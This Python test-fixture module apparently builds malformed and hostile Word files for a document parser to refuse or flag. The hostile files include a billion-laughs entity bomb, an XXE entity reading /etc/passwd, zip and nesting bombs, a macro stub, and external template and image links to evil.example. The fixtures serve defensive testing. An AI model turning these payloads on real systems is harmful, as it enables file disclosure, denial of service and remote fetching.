"""Damaged and hostile files. None of them is to be run, fetched, or waited for."""

import io
import zipfile
from collections.abc import Callable

import docx

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def good() -> bytes:
    """A small file of Word's own kind."""
    document = docx.Document()
    document.add_heading("En titel", 0)
    document.add_heading("Baggrund", 2)
    document.add_paragraph("Tekst.")
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def changed(parts: dict[str, bytes]) -> bytes:
    """The good file with other parts."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good())) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            if info.filename not in parts:
                new.writestr(info, old.read(info))
        for name, content in parts.items():
            new.writestr(name, content)
    return stream.getvalue()


def lacking() -> bytes:
    """Some bytes were lost on the way, in a part that is read."""
    with zipfile.ZipFile(io.BytesIO(good())) as file:
        kinds = file.read("[Content_Types].xml")
    whole = changed({"[Content_Types].xml": kinds})  # at the end now: another part comes first
    return whole[:100] + whole[150:]


def document(body: str, before: str = "") -> bytes:
    """A document.xml."""
    return f'<?xml version="1.0"?>{before}<w:document {W}><w:body>{body}</w:body></w:document>'.encode()


def in_document(body: str, before: str = "") -> bytes:
    """The good file with this text."""
    return changed({"word/document.xml": document(body, before)})


def paragraph(text: str) -> str:
    """One paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def outside(kind: str) -> bytes:
    """Relationships that lead out of the file."""
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="r1"'
        f' Type="{OFFICE}/{kind}" Target="http://evil.example/x" TargetMode="External"/></Relationships>'
    ).encode()


def laughs() -> bytes:
    """Entities that grow to a billion letters."""
    grown = "".join(
        f'<!ENTITY {chr(98 + step)} "{f"&{chr(97 + step)};" * 10}">' for step in range(8)
    )
    return in_document(paragraph("&i;"), f'<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">{grown}]>')


def encrypted() -> bytes:
    """The zip says that its parts need a password."""
    content = bytearray(good())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def many_entries() -> bytes:
    """A zip of thousands of nothings."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as new:
        for number in range(6000):
            new.writestr(f"word/{number}", b"")
    return stream.getvalue()


def damaged_part() -> bytes:
    """A part whose bytes were overwritten."""
    content = bytearray(good())
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as old:
        at = old.getinfo("word/document.xml").header_offset + 60
    content[at : at + 200] = b"\x55" * 200
    return bytes(content)


def not_word() -> bytes:
    """A zip of something else."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as new:
        new.writestr("a.txt", b"b")
    return stream.getvalue()


REFUSED: dict[str, Callable[[], bytes]] = {
    "a bomb": lambda: in_document(paragraph("A" * 60_000_000)),
    "many small ones": lambda: in_document("<w:p/>" * 1_500_000),
    "entities": laughs,
    "a file by an entity": lambda: in_document(
        paragraph("&x;"), '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "deep": lambda: in_document("<w:sdt><w:sdtContent>" * 5000 + "</w:sdtContent></w:sdt>" * 5000),
    "deep tables": lambda: in_document(
        "<w:tbl><w:tr><w:tc>" * 70 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 70
    ),
    "an old or locked file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000,
    "a password": encrypted,
    "cut short": lambda: good()[:9000],
    "bytes lost on the way": lacking,
    "overwritten": damaged_part,
    "another zip": not_word,
    "thousands of parts": many_entries,
    "no zip": lambda: b"Dear caseworker",
    "nothing": lambda: b"",
    "broken XML": lambda: in_document("<w:p><w:r>"),
}

FLAGGED: dict[str, Callable[[], bytes]] = {
    "macros": lambda: changed({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "a template elsewhere": lambda: changed(
        {"word/_rels/settings.xml.rels": outside("attachedTemplate")}
    ),
    "a picture elsewhere": lambda: changed({"word/_rels/document.xml.rels": outside("image")}),
}
